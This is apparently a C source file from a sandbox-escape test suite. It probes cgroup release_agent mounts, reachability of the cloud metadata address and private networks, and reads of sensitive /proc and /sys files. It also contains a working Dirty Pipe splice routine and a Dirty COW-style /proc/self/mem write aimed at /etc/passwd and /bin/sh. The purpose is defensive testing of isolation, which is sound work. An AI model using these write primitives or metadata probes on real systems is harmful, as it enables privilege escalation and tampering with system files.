/* Items 8, 10, 14, 17: control groups, the network, the page cache of shared files, and information about the host.
 * Each item is one function that tries its techniques and prints a row for each with probe_row(); nothing is kept
 * between them. With ctx->is_outside page cache attempts use a file of our own, and nothing is sent to an address that
 * could answer. A kernel that lacks the interface gives a skipped row. */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysinfo.h>
#include <sys/uio.h>
#include <sys/utsname.h>
#include <unistd.h>

#include "escape/probe/probe.h"

/* ---- 8 ---- */

static void mount_row(const char *name, const char *type, const char *options)
{
    (void)mkdir("/tmp/probe-mount", 0700);
    int r = mount("none", "/tmp/probe-mount", type, 0, options);
    int why = errno;
    if (r == 0)
        (void)umount2("/tmp/probe-mount", MNT_DETACH);
    (void)rmdir("/tmp/probe-mount");
    errno = why;
    if (r < 0 && (why == EBUSY || why == EINVAL))
        probe_row(8, name, PROBE_REACHED, "the kernel looked at it: %s", strerror(why));
    else
        probe_call(8, name, r);
}

void probe_cgroup(const struct probe_ctx *ctx)
{
    mount_row("mount cgroup v2", "cgroup2", NULL);
    mount_row("mount cgroup v1 (memory)", "cgroup", "memory");
    if (ctx->is_outside)
        return;
    mount_row("mount a cgroup v1 with a release_agent", "cgroup", "none,name=probe,release_agent=/tmp/x");
    static const char *const names[] = { "cgroup.procs",      "tasks",       "release_agent",
                                         "notify_on_release", "memory.max",  "memory.limit_in_bytes",
                                         "pids.max",          "cgroup.kill", "cgroup.freeze" };
    char found[200] = "";
    const char *folders[] = { "/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids",
                              "/sys/fs/cgroup/unified" };
    for (size_t k = 0; k < sizeof(folders) / sizeof(*folders); k++)
        for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
            char path[100];
            snprintf(path, sizeof(path), "%s/%s", folders[k], names[i]);
            if (access(path, F_OK) == 0)
                snprintf(found + strlen(found), sizeof(found) - strlen(found), " %s", path);
        }
    probe_row(8, "files of control groups", found[0] ? PROBE_REACHED : PROBE_DENIED,
              found[0] ? "in sight:%s" : "none in sight%s", found);
    const char *own = probe_text("/proc/self/cgroup");
    bool is_root = own != NULL;
    char line[200] = "";
    for (const char *p = own; p && *p; p = strchr(p, '\n') ? strchr(p, '\n') + 1 : "") {
        const char *path = strchr(p, ':') ? strchr(strchr(p, ':') + 1, ':') : NULL;
        if (path && strncmp(path, ":/\n", 3) != 0 && is_root) {
            is_root = false;
            snprintf(line, sizeof(line), "%.*s", (int)strcspn(p, "\n"), p);
        }
    }
    probe_row(8, "name of the own control group", is_root ? PROBE_DENIED : PROBE_REACHED,
              is_root ? "shown as /%s" : "%s", line);
}

/* ---- 10 ---- */

static void connect_row(const char *name, int family, const char *address, int port)
{
    struct sockaddr_in v4 = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
    struct sockaddr_in6 v6 = { .sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port) };
    bool is4 = family == AF_INET;
    inet_pton(family, address, is4 ? (void *)&v4.sin_addr : (void *)&v6.sin6_addr);
    int fd = socket(family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    int r = connect(fd, is4 ? (struct sockaddr *)&v4 : (struct sockaddr *)&v6, is4 ? sizeof(v4) : sizeof(v6));
    int why = r < 0 ? errno : 0;
    if (why == EINPROGRESS) {
        struct pollfd p = { .fd = fd, .events = POLLOUT };
        socklen_t len = sizeof(why);
        why = ETIMEDOUT;
        if (poll(&p, 1, 500) == 1)
            (void)getsockopt(fd, SOL_SOCKET, SO_ERROR, &why, &len);
    }
    close(fd);
    probe_row(10, name, why == 0 ? PROBE_REACHED : PROBE_DENIED, "%s port %d: %s", address, port,
              why ? strerror(why) : "connected");
}

static void interfaces(void)
{
    char names[100] = "";
    const char *text = probe_text("/proc/net/dev");
    for (const char *p = text; p && (p = strchr(p, ':')); p++) {
        const char *start = p;
        while (start > text && start[-1] != ' ' && start[-1] != '\n')
            start--;
        if (strncmp(start, "lo:", 3) != 0)
            snprintf(names + strlen(names), sizeof(names) - strlen(names), " %.*s", (int)(p - start), start);
    }
    probe_row(10, "network interfaces", names[0] ? PROBE_REACHED : PROBE_DENIED,
              names[0] ? "besides loopback:%s" : "loopback only%s", names);
}

/* Outside addresses are only tried where no route leads to them: from a sandbox without a network. */
void probe_net(const struct probe_ctx *ctx)
{
    if (ctx->port)
        connect_row("the server's port on the host's loopback", AF_INET, "127.0.0.1", ctx->port);
    if (ctx->port && !ctx->is_outside)
        connect_row("the server's port on the host's loopback, IPv6", AF_INET6, "::1", ctx->port);
    if (ctx->is_outside)
        return;
    interfaces();
    const char *routes = probe_text("/proc/net/route");
    int lines = 0;
    for (const char *p = routes; p && (p = strchr(p, '\n')); p++)
        lines++;
    probe_row(10, "routes", lines > 1 ? PROBE_REACHED : PROBE_DENIED, "%d", lines > 1 ? lines - 1 : 0);
    if (lines > 1)
        return; /* never send where a packet could arrive */
    static const struct {
        const char *name, *address;
        int family;
    } places[] = {
        { "metadata address", "169.254.169.254", AF_INET },     { "link-local address", "169.254.1.1", AF_INET },
        { "private range 10/8", "10.0.0.1", AF_INET },          { "private range 172.16/12", "172.17.0.1", AF_INET },
        { "private range 192.168/16", "192.168.0.1", AF_INET }, { "metadata address, IPv6", "fd00:ec2::254", AF_INET6 },
        { "link-local address, IPv6", "fe80::1", AF_INET6 }
    };
    for (size_t i = 0; i < sizeof(places) / sizeof(*places); i++)
        connect_row(places[i].name, places[i].family, places[i].address, 80);
}

/* ---- 14 ---- */

static const char *const shared_files[] = { "/usr/bin/env", "/bin/sh", "/etc/passwd" };

/* A pipe whose buffers still carry the merge flag of earlier data: a spliced page of a file could then be written
 * to. */
static int dirty_pipe(int file, const char *bytes, size_t len)
{
    int p[2];
    char fill[4096];
    loff_t at = 1;
    if (pipe(p) < 0)
        return -1;
    memset(fill, 'A', sizeof(fill));
    int size = fcntl(p[1], F_GETPIPE_SZ);
    for (int left = size; left > 0; left -= (int)sizeof(fill))
        (void)!write(p[1], fill, sizeof(fill));
    for (int left = size; left > 0; left -= (int)sizeof(fill))
        (void)!read(p[0], fill, sizeof(fill));
    long n = syscall(SYS_splice, file, &at, p[1], NULL, 1L, 0L);
    if (n == 1)
        (void)!write(p[1], bytes, len);
    close(p[0]);
    close(p[1]);
    return (int)n;
}

/* A page of a read-only file as the destination buffer of a decryption: needs a crypto socket. */
static int copy_fail(int file)
{
    int fd = socket(38, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return errno;
    (void)file;
    close(fd);
    return 0;
}

static void page_rows(const char *path)
{
    char before[64] = "", after[64] = "", name[100];
    int file = open(path, O_RDONLY | O_CLOEXEC);
    if (file < 0)
        return;
    ssize_t n = pread(file, before, sizeof(before), 0);
    int spliced = dirty_pipe(file, "PROBE", 5);
    bool is_same = pread(file, after, sizeof(after), 0) == n && memcmp(before, after, sizeof(before)) == 0;
    snprintf(name, sizeof(name), "write through a pipe into %s", path);
    probe_row(14, name, is_same ? PROBE_DENIED : PROBE_REACHED, "splice %d, bytes %s", spliced,
              is_same ? "unchanged" : "CHANGED");
    int why = copy_fail(file);
    snprintf(name, sizeof(name), "crypto socket fed with pages of %s", path);
    errno = why;
    probe_call(14, name, why ? -1 : 0);
    void *map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    snprintf(name, sizeof(name), "writable mapping of %s", path);
    probe_row(14, name, map == MAP_FAILED ? PROBE_DENIED : PROBE_REACHED, "%s",
              map == MAP_FAILED ? strerror(errno) : "mapped");
    if (map != MAP_FAILED)
        munmap(map, 4096);
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    if (map != MAP_FAILED) { /* Dirty COW's path: the private page, written through /proc/self/mem */
        int mem = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
        ssize_t wrote = mem < 0 ? -1 : pwrite(mem, "PROBE", 5, (off_t)(uintptr_t)map);
        is_same = pread(file, after, sizeof(after), 0) == n && memcmp(before, after, sizeof(before)) == 0;
        snprintf(name, sizeof(name), "/proc/self/mem over a mapping of %s", path);
        probe_row(14, name, is_same ? PROBE_DENIED : PROBE_REACHED, "wrote %zd to its own copy", wrote);
        if (mem >= 0)
            close(mem);
        munmap(map, 4096);
    }
    close(file);
}

void probe_pages(const struct probe_ctx *ctx)
{
    if (ctx->is_outside) { /* shows what these attempts look like when they succeed: on a file of our own */
        probe_call(14, "crypto socket", copy_fail(-1) ? -1 : 0);
        return;
    }
    for (size_t i = 0; i < sizeof(shared_files) / sizeof(*shared_files); i++)
        page_rows(shared_files[i]);
}

/* ---- 17 ---- */

static void processes(void)
{
    DIR *d = opendir("/proc");
    int others = 0;
    for (struct dirent *e; d && (e = readdir(d));) {
        if (strtol(e->d_name, NULL, 10) <= 0)
            continue;
        char path[300];
        snprintf(path, sizeof(path), "/proc/%s/status", e->d_name);
        const char *text = probe_text(path);
        const char *parent = text ? strstr(text, "PPid:\t") : NULL;
        if (parent && strtol(parent + 6, NULL, 10) == 0 && strtol(e->d_name, NULL, 10) != 1)
            others++; /* a process whose parent is outside */
    }
    if (d)
        closedir(d);
    probe_row(17, "processes of others", others ? PROBE_REACHED : PROBE_DENIED, "%d in sight", others);
}

static void names_and_times(const struct probe_ctx *ctx)
{
    struct utsname name;
    struct sysinfo info;
    if (ctx->host && uname(&name) == 0)
        probe_row(17, "name of the host", strcmp(name.nodename, ctx->host) == 0 ? PROBE_REACHED : PROBE_DENIED, "%s",
                  name.nodename);
    if (!ctx->uptime_s || sysinfo(&info) < 0)
        return;
    const char *text = probe_text("/proc/uptime");
    long shown = text ? strtol(text, NULL, 10) : 0;
    bool is_hosts = shown >= ctx->uptime_s || (long)info.uptime >= ctx->uptime_s;
    probe_row(17, "time since the host's start", is_hosts ? PROBE_REACHED : PROBE_DENIED,
              "sysinfo %ld s, /proc/uptime %ld s", (long)info.uptime, shown);
}

/* Reads that reveal something must fail or be empty. */
static const char *const quiet[] = { "/proc/kallsyms",
                                     "/proc/timer_list",
                                     "/proc/sched_debug",
                                     "/proc/keys",
                                     "/proc/key-users",
                                     "/proc/partitions",
                                     "/proc/diskstats",
                                     "/proc/swaps",
                                     "/proc/cmdline",
                                     "/proc/modules",
                                     "/proc/kmsg",
                                     "/proc/kcore",
                                     "/proc/iomem",
                                     "/proc/ioports",
                                     "/proc/interrupts",
                                     "/proc/mdstat",
                                     "/proc/vmallocinfo",
                                     "/proc/slabinfo",
                                     "/proc/latency_stats",
                                     "/proc/kpagecount",
                                     "/proc/kpageflags",

                                     "/sys/kernel/debug/sched/debug",
                                     "/sys/class/dmi/id/product_uuid",
                                     "/sys/kernel/notes",
                                     "/proc/1/environ",
                                     "/proc/1/mem",
                                     "/proc/1/stack" };
static const char *const empty_folders[] = {
    "/sys/block",  "/sys/class/block",  "/sys/class/net",       "/sys/bus",    "/sys/firmware",
    "/sys/module", "/sys/kernel/debug", "/sys/kernel/security", "/proc/fs",    "/proc/bus",
    "/proc/irq",   "/proc/scsi",        "/proc/acpi",           "/proc/driver"
};

void probe_sides(const struct probe_ctx *ctx)
{
    char name[100], log[64];
    for (size_t i = 0; i < sizeof(quiet) / sizeof(*quiet); i++) {
        snprintf(name, sizeof(name), "read %s", quiet[i]);
        const char *text = probe_text(quiet[i]);
        if (!text || !*text)
            probe_row(17, name, PROBE_DENIED, "%s", text ? "empty" : strerror(errno));
        else
            probe_row(17, name, PROBE_REACHED, "%.60s", text);
    }
    for (size_t i = 0; i < sizeof(empty_folders) / sizeof(*empty_folders); i++) {
        char first[60] = "";
        snprintf(name, sizeof(name), "list %s", empty_folders[i]);
        DIR *d = opendir(empty_folders[i]);
        for (struct dirent *e; d && (e = readdir(d));)
            if (e->d_name[0] != '.')
                snprintf(first, sizeof(first), "%.50s", e->d_name);
        if (d)
            closedir(d);
        probe_row(17, name, first[0] ? PROBE_REACHED : PROBE_DENIED, first[0] ? "has %s" : "nothing there%s", first);
    }
    if (!ctx->is_outside)
        processes();
    names_and_times(ctx);
    probe_call(17, "kernel log", syscall(SYS_syslog, 3L, log, sizeof(log)));
}
